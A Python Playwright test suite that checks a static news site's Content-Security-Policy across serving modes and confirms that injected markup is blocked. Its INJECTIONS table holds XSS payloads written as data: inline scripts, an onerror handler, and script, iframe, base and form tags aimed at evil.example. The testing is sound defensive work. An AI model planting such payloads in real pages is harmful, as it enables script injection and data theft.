"""The Content-Security-Policy of pages: the site obeys it, and injected markup does not run."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browser.test_pages import EXAMPLE_PAGES, PAGES, page_of
from tests.support.browsing import Watched, watched_page
from tests.support.sample import rendered
from tests.support.sites import write_files

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Response

pytestmark = [pytest.mark.browser, pytest.mark.model]

LISTEN = """
window.offences = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.offences.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sourceFile}`));
"""
UNTIL_REFUSED = """() => new Promise((done) => {
  const look = () => (window.offences.length ? done() : setTimeout(look, 50));
  look();
})"""
WAYS = ("root", "sub-path", "file")
SITE_URL = "https://news.example/site"
"""Pages with more to check if the site has a public address: pages of quotes, and 404.html with its base."""

REDIRECTS = ("people/falih-fayyadh.html",)


@contextmanager
def listening(browser: Browser) -> Iterator[Watched]:
    """Yield a page that records what its policy refuses; fail afterwards if it refused anything."""
    with watched_page(browser, keeps_policy=True) as watched:
        watched.page.add_init_script(LISTEN)
        yield watched
        assert_nothing_refused(watched)


def assert_nothing_refused(watched: Watched) -> None:
    assert watched.page.evaluate("window.offences") == []
    assert not [said for said in watched.complaints if "Security" in said or "uncaught" in said]


@pytest.fixture(scope="module")
def public_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the sample as a site with a public address."""
    return write_files(tmp_path_factory.mktemp("public"), rendered(SITE_URL))


@pytest.fixture(scope="module")
def address_of(serve_site_at: Callable[[Path, str], str]) -> Callable[[Path, str], str]:
    """Return the address of a site at the root of a server, at a sub-path, or as files."""
    known: dict[tuple[Path, str], str] = {}

    def address(site: Path, way: str) -> str:
        if way == "file":
            return site.as_uri()
        if (site, way) not in known:
            known[site, way] = serve_site_at(site, "" if way == "root" else "papers/ellery")
        return known[site, way]

    return address


def scroll_and_settle(watched: Watched) -> None:
    watched.page.evaluate("scrollTo(0, document.body.scrollHeight)")
    watched.page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("way", WAYS)
def test_pages_of_the_seed_site_obey_their_policy(
    way: str,
    built_seed_site: Path,
    address_of: Callable[[Path, str], str],
    browser: Browser,
    subtests: pytest.Subtests,
) -> None:
    with listening(browser) as watched:
        for kind, pattern in PAGES.items():
            with subtests.test(kind=kind):
                watched.forget()
                watched.page.goto(f"{address_of(built_seed_site, way)}/{page_of(built_seed_site, pattern)}")
                scroll_and_settle(watched)
                assert watched.page.evaluate("document.styleSheets.length") >= 2
                assert watched.page.evaluate("document.documentElement.classList.contains('scripted')")
                assert_nothing_refused(watched)


@pytest.mark.parametrize("way", WAYS)
def test_pages_of_the_example_obey_their_policy(
    way: str,
    built_example: Path,
    address_of: Callable[[Path, str], str],
    browser: Browser,
    subtests: pytest.Subtests,
) -> None:
    with listening(browser) as watched:
        for kind, pattern in EXAMPLE_PAGES.items():
            with subtests.test(kind=kind):
                watched.forget()
                watched.page.goto(f"{address_of(built_example, way)}/{page_of(built_example, pattern)}")
                scroll_and_settle(watched)
                assert_nothing_refused(watched)


@pytest.mark.parametrize("way", WAYS)
def test_pages_of_a_site_with_a_public_address_obey_their_policy(
    way: str, public_site: Path, address_of: Callable[[Path, str], str], browser: Browser
) -> None:
    address = address_of(public_site, way)
    paths = sorted(path.relative_to(public_site).as_posix() for path in public_site.rglob("*.html"))
    assert {"404.html", "briefs/footbridge/q-1.html", *REDIRECTS} <= set(paths)
    with watched_page(browser, keeps_policy=True) as watched:
        watched.page.add_init_script(LISTEN)
        for path in paths:
            watched.page.goto(f"{address}/{path}", wait_until="commit" if path in REDIRECTS else "load")
            if path in REDIRECTS:
                watched.page.wait_for_url(lambda url: not url.endswith(f"/{path}"))  # noqa: B023 - at once
            assert watched.page.evaluate("window.offences") == [], path
        assert not [said for said in watched.complaints if "Content Security Policy" in said]


@pytest.mark.parametrize("way", ["root", "sub-path"])
def test_search_runs_under_its_policy(
    way: str, built_seed_site: Path, address_of: Callable[[Path, str], str], browser: Browser
) -> None:
    with listening(browser) as watched:
        watched.page.goto(f"{address_of(built_seed_site, way)}/search.html")
        watched.page.locator("#search-words").fill("kerry")
        watched.page.locator("[data-search-status]", has_text="for “kerry”").wait_for()
        assert watched.page.locator("[data-search-results] > li").count() > 0


@pytest.mark.parametrize("way", WAYS)
def test_filters_cards_notes_and_themes_work_under_the_policy(
    way: str, public_site: Path, address_of: Callable[[Path, str], str], browser: Browser
) -> None:
    address = address_of(public_site, way)
    with listening(browser) as watched:
        page = watched.page
        page.goto(f"{address}/quotes/index.html")
        page.locator("[data-filters] input[type=search]").first.fill("bridge")
        page.locator("[data-filters]").wait_for()
        page.locator("[data-theme-button]").click()
        page.goto(f"{address}/briefs/footbridge.html")
        page.locator(".para a[id]").first.hover()
        page.locator("[popover]:popover-open, .card").first.wait_for()


INJECTIONS = {
    "a script": "<script>document.title = 'taken'</script>",
    "a handler": "<img src=x onerror=\"document.title = 'taken'\">",
    "a foreign script": "<script src='https://evil.example/x.js'></script>",
    "a style": "<style>h1 { display: none }</style>",
    "a frame": "<iframe src='https://evil.example/'></iframe>",
    "a plug-in": "<object data='https://evil.example/'></object>",
    "a base": "<base href='https://evil.example/'>",
    "a form": "<form id=f action='https://evil.example/' method=post><input name=a></form>",
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("what", INJECTIONS)
def test_injected_scripts_and_styles_are_refused(
    what: str,
    way: str,
    public_site: Path,
    address_of: Callable[[Path, str], str],
    browser: Browser,
) -> None:
    name = f"injected-{list(INJECTIONS).index(what)}.html"
    html = (public_site / "about.html").read_text(encoding="utf-8")
    (public_site / name).write_text(html.replace("<h1", f"{INJECTIONS[what]}<h1", 1), encoding="utf-8")
    with watched_page(browser, keeps_policy=True) as watched:
        page = watched.page
        page.add_init_script(LISTEN)
        answered: list[str] = []

        def note(response: Response) -> None:
            answered.append(response.url)

        page.on("response", note)
        page.goto(f"{address_of(public_site, way)}/{name}")
        page.wait_for_load_state()
        if what == "a form":
            page.evaluate("document.getElementById('f').submit()")
        page.evaluate(UNTIL_REFUSED)
        assert page.title() != "taken"
        assert page.locator("h1").is_visible()
        assert "evil.example" not in page.url
        assert page.evaluate("document.baseURI").partition("?")[0].endswith(name)
        assert not [url for url in answered if "evil.example" in url]
    (public_site / name).unlink()
